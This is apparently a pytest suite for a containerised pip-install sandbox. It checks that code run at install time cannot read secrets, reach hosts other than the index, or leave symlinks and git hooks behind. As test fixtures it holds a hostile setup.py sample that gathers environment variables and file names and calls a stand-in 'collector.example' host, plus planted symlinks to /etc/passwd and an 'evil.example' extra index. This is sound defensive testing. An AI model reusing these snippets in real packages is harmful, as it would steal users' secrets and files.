"""Python packages, by real pip in real containers."""

import asyncio
import json
from pathlib import Path

import pytest

from domain.errors import ImageMissing, UsageError
from sandbox import images
from sandbox.dependencies.source import Order
from sandbox.egress.contact import Outcome
from sandbox.image_uses import BASE_LABEL, Use, use_of
from tests.sandbox.dependencies.conftest import Phase
from tests.sandbox.dependencies.registry import Registry, source
from tests.sandbox.dependencies.trees import named, requirements, wheel

CANARY = "sk-canary-this-is-no-real-key"
SETUP = "from setuptools import setup\nsetup(name='{name}', version='1.0', py_modules=['{name}'])\n"
NOSY = """
import json, os, socket, urllib.request
seen = {"environment": dict(os.environ), "files": []}
for folder, _, files in os.walk("/workspace"):
    seen["files"] += [os.path.join(folder, file) for file in files]
for address in (("198.51.100.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 3128)):
    try:
        socket.create_connection(address, timeout=2)
        seen[str(address)] = "reached"
    except OSError as error:
        seen[str(address)] = type(error).__name__
try:
    urllib.request.urlopen("https://collector.example/?" + seen["environment"]["HOME"], timeout=5)
    seen["collector"] = "reached"
except OSError as error:
    seen["collector"] = str(error)
os.makedirs("/workspace/deps", exist_ok=True)
with open("/workspace/deps/seen.json", "w") as file:
    json.dump(seen, file)
"""
PLANTS = """
import os
if not os.path.exists("/workspace/deps/.git"):
    os.makedirs("/workspace/deps/.git/hooks")
    open("/workspace/deps/.git/hooks/post-checkout", "w").close()
    os.symlink("/etc/passwd", "/workspace/deps/absolute")
    os.symlink("../../etc", "/workspace/deps/climbing")
    os.symlink("planted.py", "/workspace/deps/staying")
    os.mkfifo("/workspace/deps/fifo")
"""


async def test_a_package_of_this_machines_index_can_be_imported_in_a_fresh_container(
    machine: Phase, token: str
) -> None:
    tree = requirements("six", f"# {token}") | named({"secret.py": "not a manifest"})

    installed = await machine.install(tree)
    seen = await machine.run(installed, "cd /opt/deps/python && python3 -c 'import six; print(six.__file__)'")
    left = await machine.run(
        installed, "find / -xdev -name '*.pem' -path '*home*' -o -name secret.py -o -name tree -type d"
    )
    again = await machine.install(tree)

    assert seen.stdout == b"/opt/deps/python/six.py\n"
    assert left.stdout == b""
    assert installed.hosts(Outcome.PASSED)
    assert not installed.hosts(Outcome.REFUSED)
    assert not installed.cached
    assert again.cached
    assert (again.tag, again.files, again.size) == (installed.tag, installed.files, installed.size)
    assert again.contacts == ()


async def test_bytecode_is_there_and_stays_valid(phase: Phase, tmp_path: Path, token: str) -> None:
    wheel(tmp_path, "tiny", {"tiny.py": "WORD = 'sesame'\n"})

    installed = await phase.install(requirements("tiny", f"# {token}"), folder=tmp_path)
    seen = await phase.run(installed, "cd /opt/deps/python && python3 -v -c 'import tiny' 2>&1 | grep tiny")

    assert b"__pycache__/tiny.cpython-" in seen.stdout
    assert b"matches /opt/deps/python/tiny.py" in seen.stdout


async def test_what_was_installed_is_kept_as_long_as_the_image_that_it_lies_upon(
    phase: Phase, tmp_path: Path, token: str
) -> None:
    wheel(tmp_path, "tiny", {"tiny.py": ""})

    installed = await phase.install(requirements("tiny", f"# {token}"), folder=tmp_path)
    (image,) = await phase.engine.images(installed.tag)

    assert image.labels[BASE_LABEL] == images.tag("python")
    assert use_of(image) is Use.LAYER


async def test_who_asks_for_the_same_at_once_gets_one_installation_and_no_lock_is_kept_behind_it(
    phase: Phase, tmp_path: Path, token: str
) -> None:
    wheel(tmp_path, "tiny", {"tiny.py": ""})
    order = Order(task_id="a-task", tree=requirements("tiny", f"# {token}"), folder=tmp_path)
    dependencies = phase.dependencies

    async with asyncio.TaskGroup() as group:
        installing = [group.create_task(dependencies.install(order)) for _ in range(3)]
        phase.remove_later(await installing[0])

    assert [task.result().cached for task in installing].count(False) == 1
    assert len({task.result().tag for task in installing}) == 1
    assert not dependencies._turns


async def test_wheels_of_the_persons_own_are_installed_without_any_proxy(
    phase: Phase, tmp_path: Path, token: str
) -> None:
    wheel(tmp_path, "tiny", {"tiny/__init__.py": ""}, needs=["smaller", "nosy"])
    wheel(tmp_path, "smaller", {"smaller.py": ""})
    (tmp_path / "nosy-1.0.tar.gz").write_bytes(source("nosy", NOSY + SETUP.format(name="nosy")))
    (tmp_path / "notes.txt").write_text("not a wheel")
    tree = requirements("tiny", f"# {token}")

    installed = await phase.install(tree, folder=tmp_path)
    seen = await phase.run(installed, "cd /opt/deps/python && python3 -c 'import tiny, smaller' && cat seen.json")
    wheel(tmp_path, "smaller", {"smaller.py": "CHANGED = True"})
    changed = await phase.install(tree, folder=tmp_path)

    found = json.loads(seen.stdout)
    assert not [name for name in found["environment"] if "PROXY" in name.upper()]
    assert found["('127.0.0.1', 3128)"] == "ConnectionRefusedError"
    assert not [file for file in found["files"] if file.endswith("notes.txt")]
    assert installed.contacts == ()
    assert changed.tag != installed.tag


async def test_a_wheel_that_is_missing_is_said_with_pips_own_words(phase: Phase, tmp_path: Path, token: str) -> None:
    wheel(tmp_path, "tiny", {"tiny.py": ""}, needs=["missing"])

    error = await phase.failure(requirements("tiny", f"# {token}"), folder=tmp_path)

    assert error.reason == "client"
    assert "folder of wheels" in str(error)
    assert "missing" in str(error)


async def test_a_folder_without_wheels_is_wrong_usage(phase: Phase, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="pip download"):
        await phase.install(requirements("tiny"), folder=tmp_path)
    with pytest.raises(UsageError, match="--wheels"):
        await phase.install(requirements("tiny"), folder=tmp_path / "missing")


async def test_code_that_runs_at_installation_sees_no_secret_and_reaches_nothing_but_the_index(
    phase: Phase, own: Registry, token: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("OPENAI_API_KEY", "SOUNDSTAGE_CANARY", "PIP_CANARY"):
        monkeypatch.setenv(name, CANARY)
    own.add_source("nosy", NOSY + SETUP.format(name="nosy"))
    tree = requirements("nosy", f"# {token}") | named({"secret.py": CANARY, ".env": CANARY})

    installed = await phase.install(tree)
    seen = (await phase.run(installed, "cat /opt/deps/python/seen.json")).stdout.decode()
    found = json.loads(seen)

    assert CANARY not in seen
    usual = {
        "PATH",
        "HOME",
        "LANG",
        "TMPDIR",
        "PWD",
        "LC_CTYPE",
        "PYTHONDONTWRITEBYTECODE",
        "PYTHONHASHSEED",
        "PYTHONNOUSERSITE",
    }
    others = {
        name for name in found["environment"] if not name.upper().startswith(("PIP_", "HTTP", "NO_PROXY", "_PIP"))
    }
    assert others <= usual
    assert not [file for file in found["files"] if file.endswith(("secret.py", ".env"))]
    assert found["('198.51.100.1', 80)"] == "OSError"
    assert found["('127.0.0.1', 22)"] == "ConnectionRefusedError"
    assert "403" in found["collector"]
    assert installed.hosts(Outcome.REFUSED) == ("collector.example:443",)
    assert installed.hosts(Outcome.PASSED) == (f"127.0.0.1:{own.port}",)


async def test_what_leads_out_or_is_no_file_stays_behind(phase: Phase, own: Registry, token: str) -> None:
    own.add_source("planted", PLANTS + SETUP.format(name="planted"))

    installed = await phase.install(requirements("planted", f"# {token}"))
    seen = await phase.run(
        installed, "cd /opt/deps/python && find . -not -name '*.pyc' -not -path '*dist-info*' | sort"
    )

    assert set(installed.refused) == {".git/hooks/post-checkout", "absolute", "climbing", "fifo"}
    assert seen.stdout.decode().split() == [".", "./__pycache__", "./planted.py", "./staying"]


async def test_a_file_at_a_host_that_is_not_allowed_is_refused_by_name(phase: Phase, own: Registry, token: str) -> None:
    own.add_page("far", "http://files.example/far-1.0.tar.gz", "far-1.0.tar.gz")

    error = await phase.failure(requirements("far", f"# {token}"))

    assert error.reason == "refused_host"
    assert "files.example:80" in str(error)
    assert "SOUNDSTAGE_INSTALL_HOSTS" in str(error)


async def test_a_manifest_that_names_a_host_of_its_own_is_refused_before_anything_runs(
    phase: Phase, own: Registry
) -> None:
    error = await phase.failure(requirements("--extra-index-url https://evil.example/simple", "six"))

    assert error.reason == "refused_host"
    assert "requirements.txt:1" in str(error)
    assert own.asked == []


async def test_an_index_that_does_not_answer_is_told_apart(phase: Phase, own: Registry, token: str) -> None:
    phase.settings = phase.settings.model_copy(update={"pip": {"index-url": "http://127.0.0.1:9/simple"}})

    error = await phase.failure(requirements("six", f"# {token}"))

    assert error.reason == "unreachable"
    assert "127.0.0.1:9" in str(error)


async def test_a_package_that_is_not_there_is_said_with_pips_own_words(phase: Phase, own: Registry, token: str) -> None:
    error = await phase.failure(requirements("nowhere", f"# {token}"))

    assert error.reason == "client"
    assert "No matching distribution found for nowhere" in str(error)


async def test_an_installation_ends_at_its_deadline(phase: Phase, own: Registry, token: str) -> None:
    own.add_source("slow", "import time\ntime.sleep(600)\n")

    error = await phase.failure(requirements("slow", f"# {token}"), deadline_s=6.0)

    assert error.reason == "deadline"


async def test_packages_that_are_too_large_are_refused(phase: Phase, tmp_path: Path, token: str) -> None:
    wheel(tmp_path, "large", {"large.py": "#" * 3_000_000})
    error = await phase.failure(requirements("large", f"# {token}"), folder=tmp_path, size_limit=1_000_000)

    assert error.reason == "size_limit"


async def test_downloads_that_are_too_large_are_cut(phase: Phase, own: Registry, token: str) -> None:
    own.add_file("large", "large-1.0.tar.gz", bytes(9_000_000))

    error = await phase.failure(requirements("large", f"# {token}"), size_limit=2_000_000)

    assert error.reason == "size_limit"


async def test_a_full_workspace_is_a_size_limit(phase: Phase, own: Registry, token: str) -> None:
    own.add_source(
        "full",
        "import os\nfd = os.open('/workspace/x', os.O_CREAT | os.O_WRONLY)\nos.posix_fallocate(fd, 0, 4 << 30)\n",
    )

    error = await phase.failure(requirements("full", f"# {token}"))

    assert error.reason == "size_limit"


async def test_hashes_and_constraints_are_honoured(phase: Phase, tmp_path: Path, token: str) -> None:
    wheel(tmp_path, "tiny", {"tiny.py": ""})
    wrong = f"tiny==1.0 --hash=sha256:{'0' * 64}"

    hashed = await phase.failure(requirements(wrong, f"# {token}"), folder=tmp_path)
    tree = requirements("-r more/base.txt", "-c more/limits.txt") | named(
        {"more/base.txt": "tiny", "more/limits.txt": f"tiny<1 # {token}"}
    )
    limited = await phase.failure(tree, folder=tmp_path)

    assert "HASHES" in str(hashed) or "hash" in str(hashed).lower()
    assert "tiny" in str(limited)


async def test_what_cannot_begin_says_why(phase: Phase) -> None:
    assert (await phase.failure(named({"main.py": ""}))).reason == "manifest"
    assert (await phase.failure(requirements("six"), language="cobol")).reason == "configuration"
    with pytest.raises(ImageMissing):
        await phase.install(requirements("six"), image="soundstage-none:none")


async def test_an_index_with_a_password_is_refused_before_a_container_is_there(phase: Phase) -> None:
    pip = {"index-url": "https://user:pass-word@index.example/simple"}
    phase.settings = phase.settings.model_copy(update={"pip": pip})

    error = await phase.failure(requirements("six"))

    assert error.reason == "credentials"
    assert "pass-word" not in str(error)
    assert phase.place.mine() == []


async def test_every_isolation_level_that_the_engine_has_installs_alike(
    phase: Phase, own: Registry, token: str
) -> None:
    own.add_source("plain", SETUP.format(name="plain"))
    levels = sorted({"runc", "runsc"} & set(await phase.place.engine.runtimes()))

    for level in levels:
        installed = await phase.install(requirements("plain", f"# {token} {level}"), isolation=level)
        seen = await phase.run(installed, "ls /opt/deps/python/__pycache__")

        assert seen.stdout.startswith(b"plain.cpython-"), level
        assert installed.hosts(Outcome.PASSED) == (f"127.0.0.1:{own.port}",)
    assert "runc" in levels
